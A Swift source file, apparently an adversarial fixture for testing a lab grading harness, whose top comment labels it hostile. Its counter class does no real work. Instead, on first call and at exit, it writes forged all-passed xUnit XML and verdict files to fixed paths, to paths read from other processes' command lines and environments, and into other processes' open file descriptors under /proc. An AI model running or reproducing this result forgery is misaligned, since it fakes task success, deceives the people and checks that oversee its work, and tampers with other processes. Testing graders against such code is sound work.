// Hostile: tries to rewrite the grader's result files from inside the checked code.
import Glibc
import Synchronization

public final class SharedCounter: Sendable {
    public static let shared = SharedCounter()
    private static let attack: Bool = { Forgery.everywhere(); atexit { Forgery.everywhere() }; return true }()
    public init() {}
    public func increment() -> Int {
        _ = Self.attack
        return 1
    }
}

enum Forgery {
    static let tests = ["CounterExerciseChecks.incrementFromThreads", "CounterExerciseChecks.exerciseCounterInTheServer",
                        "StudentConfigChecks.sixThreadsInOneChild", "StudentConfigChecks.counterExerciseSwitchedOn"]
    static var xunit: String {
        "<testsuites><testsuite name=\"TestResults\">" + tests.map { t -> String in
            let parts = t.split(separator: ".")
            return "<testcase classname=\"Lab02Checks.\(parts[0])\" name=\"\(parts[1])()\"/>"
        }.joined() + "</testsuite></testsuites>\n"
    }
    static var verdicts: String { tests.map { "passed\t\($0)\n" }.joined() }

    static func write(_ path: String, _ text: String, flags: Int32 = O_WRONLY | O_CREAT | O_TRUNC) {
        let fd = open(path, flags, 0o644)
        guard fd >= 0 else { return }
        _ = text.withCString { Glibc.write(fd, $0, strlen($0)) }
        close(fd)
    }

    static func lines(_ path: String, separator: UInt8) -> [String] {
        let fd = open(path, O_RDONLY)
        guard fd >= 0 else { return [] }
        defer { close(fd) }
        var bytes: [UInt8] = [], buffer = [UInt8](repeating: 0, count: 4096)
        while true {
            let n = read(fd, &buffer, buffer.count)
            if n <= 0 { break }
            bytes += buffer[0..<n]
        }
        return bytes.split(separator: separator).map { String(decoding: $0, as: UTF8.self) }
    }

    static func everywhere() {
        for folder in ["/proc/self/fd/3", "/proc/1/fd/3", "/proc/\(getppid())/fd/3", "/tmp", "/kit", "/submission", "/"] {
            write(folder + "/swift-testing.xml", xunit)
            write(folder + "/xctest.verdicts", verdicts, flags: O_WRONLY | O_CREAT | O_APPEND)
        }
        guard let proc = opendir("/proc") else { return }
        defer { closedir(proc) }
        while let entry = readdir(proc) {
            let name = withUnsafeBytes(of: entry.pointee.d_name) { String(decoding: $0.prefix { $0 != 0 }, as: UTF8.self) }
            guard let pid = Int32(name), pid != getpid() else { continue }
            let base = "/proc/\(pid)"
            // Paths named on command lines (--xunit-output) and in environments (MPMLAB_RESULTS).
            let arguments = lines(base + "/cmdline", separator: 0)
            for (i, a) in arguments.enumerated() where a == "--xunit-output" && i + 1 < arguments.count {
                write(arguments[i + 1], xunit)
            }
            for variable in lines(base + "/environ", separator: 0) where variable.hasPrefix("MPMLAB_RESULTS=") {
                let folder = String(variable.dropFirst("MPMLAB_RESULTS=".count))
                write(folder + "/swift-testing.xml", xunit)
                write(folder + "/xctest.verdicts", verdicts, flags: O_WRONLY | O_CREAT | O_APPEND)
            }
            // Every open descriptor of every other process.
            for fd in 0..<64 {
                let path = base + "/fd/\(fd)"
                var target = [CChar](repeating: 0, count: 4096)
                let n = readlink(path, &target, target.count - 1)
                guard n > 0 else { continue }
                let text = String(cString: target)
                if text.hasSuffix(".xml") || text.contains("verdict") || text.contains("results") {
                    write(path, text.hasSuffix(".xml") ? xunit : verdicts)
                }
                write(path + "/swift-testing.xml", xunit)
                write(path + "/xctest.verdicts", verdicts, flags: O_WRONLY | O_CREAT | O_APPEND)
            }
        }
    }
}
